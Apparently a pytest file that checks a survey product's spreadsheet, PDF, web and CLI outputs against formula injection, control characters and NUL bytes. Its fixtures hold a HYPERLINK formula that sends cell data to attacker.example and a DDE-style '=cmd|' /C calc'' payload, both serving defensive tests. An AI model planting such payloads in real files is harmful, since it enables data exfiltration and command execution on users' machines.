"""Bytes that spreadsheets and databases treat specially (issue 14, findings 5, 6 and 7).

Formulas, control characters and NUL reach the product in comments, roster
names, links and logins.  None may become a live formula in HR's workbook,
break a file, or turn into a 500 or a traceback on either database.
"""

from __future__ import annotations

import csv
from io import BytesIO

import openpyxl
import pytest
from pypdf import PdfReader
from sqlmodel import Session, select

from storage.engine import make_engine
from storage.migrate import upgrade
from storage.models import Cadre, Campaign
from surveys.results.report_pdf import write_cadre_report_pdf
from surveys.results.reports import cadre_report, campaign_overview, write_results_workbook
from surveys.rules.cells import cell_text
from surveys.setup.roster import write_workbook
from tests import report_campaign as hand_worked
from tests.cli import CadreCli
from tests.factories import make_campaign, small_roster_rows
from tests.hr import anonymous_client, hr_client, log_in
from tests.web import FORM, parse, rater_paths

FORMULA = '=HYPERLINK("http://attacker.example/?x="&B2,"详情 click")'
HOSTILE_NAME = "=cmd|' /C calc'!A0\x01\x00王"


@pytest.fixture
def engine(any_engine):
    """This run's database: SQLite, then PostgreSQL."""
    return any_engine


@pytest.fixture
def app(any_app):
    """The real application on this run's database."""
    return any_app


def every_cell(data) -> list:
    """Every cell object of a workbook (path or bytes)."""
    source = BytesIO(data) if isinstance(data, bytes) else data
    workbook = openpyxl.load_workbook(source)
    return [cell for sheet in workbook for row in sheet.iter_rows() for cell in row]


def assert_inert(cells) -> None:
    """No formula cell, and no text a spreadsheet would run once retyped or saved as CSV."""
    assert all(cell.data_type != "f" for cell in cells)
    texts = [cell.value for cell in cells if isinstance(cell.value, str)]
    assert not [text for text in texts if text.startswith(("=", "+", "-", "@"))]
    assert any(FORMULA in text for text in texts) or any("cmd|" in text for text in texts)


def test_cell_text_quotes_formulas_and_drops_what_xml_forbids():
    """The one rule every workbook and CSV writer uses."""
    assert cell_text(FORMULA) == "'" + FORMULA
    assert cell_text("@SUM(A1)") == "'@SUM(A1)" and cell_text("-1+1") == "'-1+1"
    assert cell_text("a\x00b\x01c\td\ne") == "abc\td\ne"
    assert cell_text("\x00=1") == "'=1"  # a hidden NUL cannot smuggle the formula past
    assert cell_text("王伟") == "王伟"


@pytest.fixture
def hostile_campaign(monkeypatch, engine, now):
    """The hand-worked campaign, five comments a formula, C1's name a formula with NUL.

    The name is written straight into the database, as an old import could
    have left it: the import refuses control characters now (SQLite only:
    PostgreSQL cannot store a NUL at all).
    """
    for rater in hand_worked.COMMENTS:
        monkeypatch.setitem(hand_worked.COMMENTS, rater, FORMULA + "\x01")
    with Session(engine, expire_on_commit=False) as session:
        campaign = hand_worked.report_campaign(session, now)
        cadre = session.exec(select(Cadre).where(Cadre.external_id == "C1")).one()
        nul = "" if engine.dialect.name == "postgresql" else "\x00"
        cadre.name = HOSTILE_NAME.replace("\x00", nul)
        session.add(cadre)
        session.commit()
    return campaign


def test_results_workbook_from_the_web_has_no_live_formula(app, hostile_campaign):
    """Findings 5 and 6: the comment was a live formula cell, a \\x01 in it was a 500."""
    client = hr_client(app, "auditor")
    response = client.get(f"/admin/campaigns/{hostile_campaign.id}/results.xlsx")
    assert response.status_code == 200
    assert_inert(every_cell(response.data))


def test_results_workbook_written_by_the_domain_has_no_live_formula(
    engine, hostile_campaign, tmp_path
):
    """Finding 6: a roster name with NUL made openpyxl raise IllegalCharacterError."""
    with Session(engine) as session:
        campaign = session.get(Campaign, hostile_campaign.id)
        overview = campaign_overview(session=session, campaign=campaign)
        write_results_workbook(tmp_path / "r.xlsx", overview, "zh")
    cells = every_cell(tmp_path / "r.xlsx")
    assert_inert(cells)
    assert any("cmd|' /C calc'!A0王" in str(cell.value) for cell in cells)


def test_cadre_results_xlsx_with_hostile_text_exits_0(tmp_path, now):
    """Finding 6: `cadre results --xlsx` exited 1 with a traceback."""
    url = f"sqlite:///{tmp_path / 'cadre.db'}"
    engine = make_engine(url)
    upgrade(engine)
    with Session(engine, expire_on_commit=False) as session:
        campaign = hand_worked.report_campaign(session, now)
        cadre = session.exec(select(Cadre).where(Cadre.external_id == "C1")).one()
        cadre.name = HOSTILE_NAME
        session.add(cadre)
        session.commit()
    engine.dispose()
    run = CadreCli(tmp_path, database_url=url)
    run("results", campaign.id[:8], "--xlsx", str(tmp_path / "r.xlsx"))
    assert_inert(every_cell(tmp_path / "r.xlsx"))


def test_roster_workbook_keeps_a_formula_name_as_text(tmp_path):
    """Finding 5: roster names that start with "=" went into the roster file as formulas."""
    rows = small_roster_rows()
    sheets = {sheet: [dict(row) for _, row in rows.sheets[sheet]] for sheet in rows.sheets}
    sheets["cadres"][0]["name"] = "=1+1\x01"
    write_workbook(tmp_path / "roster.xlsx", sheets)
    cells = every_cell(tmp_path / "roster.xlsx")
    assert all(cell.data_type != "f" for cell in cells)
    assert "=1+1" in [cell.value for cell in cells]


@pytest.mark.parametrize(
    "path", ["/p/abc%00", "/publicity/abc%00", "/p/abc%00/thanks", "/p/abc%00/display", "/r/a%00"]
)
def test_nul_in_a_link_is_a_400_with_a_message(app, client, path):
    """Finding 7: on PostgreSQL each of these was a 500 (NUL in a text literal)."""
    response = client.get(path)
    assert response.status_code == 400
    assert "NUL character" in response.get_data(as_text=True)


def test_nul_in_a_comment_is_a_400_and_nothing_is_stored(app, client, engine, now):
    """Finding 7: a rater comment ``bad\\x00comment`` was a 500 on PostgreSQL."""
    with Session(engine, expire_on_commit=False) as session:
        campaign = make_campaign(session, now=now)
    page = parse(client.get(rater_paths(engine, campaign)["R1"], follow_redirects=True).data)
    response = client.post(FORM, data={**page.hidden, "comment-C1": "bad\x00comment", "x\x00": "1"})
    assert response.status_code == 400
    assert "NUL character" in response.get_data(as_text=True)


def test_nul_in_a_login_is_a_400(app, client):
    """Finding 7: an HR login as ``ad\\x00min`` was a 500 on PostgreSQL."""
    response = log_in(anonymous_client(app), "ad\x00min")
    assert response.status_code == 400
    assert "NUL character" in response.get_data(as_text=True)


def test_roster_csv_with_nul_exits_2_with_the_row(tmp_path, database_url):
    """Finding 7: `cadre roster import` of a CSV with NUL printed a traceback and exited 1."""
    folder = tmp_path / "roster"
    folder.mkdir()
    rows = small_roster_rows()
    for sheet, numbered in rows.sheets.items():
        with (folder / f"{sheet}.csv").open("w", newline="", encoding="utf-8") as handle:
            writer = csv.writer(handle)
            columns = list(numbered[0][1])
            writer.writerow(columns)
            for _, row in numbered:
                writer.writerow([row[column] for column in columns])
    text = (folder / "cadres.csv").read_text(encoding="utf-8")
    (folder / "cadres.csv").write_text(text.replace("王", "王\x00", 1), encoding="utf-8")
    result = CadreCli(tmp_path, database_url=database_url)("roster", "import", str(folder), code=2)
    assert "control character" in result.output and "cadres" in result.output
    assert "Traceback" not in result.output


def test_roster_csv_with_an_unclosed_quote_exits_2(tmp_path):
    """A CSV the reader cannot parse is a user error, not a traceback."""
    folder = tmp_path / "roster"
    folder.mkdir()
    for sheet in ("cadres", "raters", "assignments"):
        (folder / f"{sheet}.csv").write_text("id,name\n" + "x" * 200_000 + "\n", encoding="utf-8")
    result = CadreCli(tmp_path)("roster", "import", str(folder), code=2)
    assert "not readable CSV" in result.output


def test_report_pdfs_leave_control_characters_out(engine, hostile_campaign):
    """A NUL or \\x01 in an old roster name reached the PDF text as it was."""
    with Session(engine) as session:
        campaign = session.get(Campaign, hostile_campaign.id)
        buffer = BytesIO()
        report = cadre_report(session=session, campaign=campaign, cadre_id="C1")
        write_cadre_report_pdf(buffer, report, "zh")
    text = "\n".join(page.extract_text() for page in PdfReader(buffer).pages)
    assert "cmd|' /C calc'!A0王" in text and "\x00" not in text and "\x01" not in text
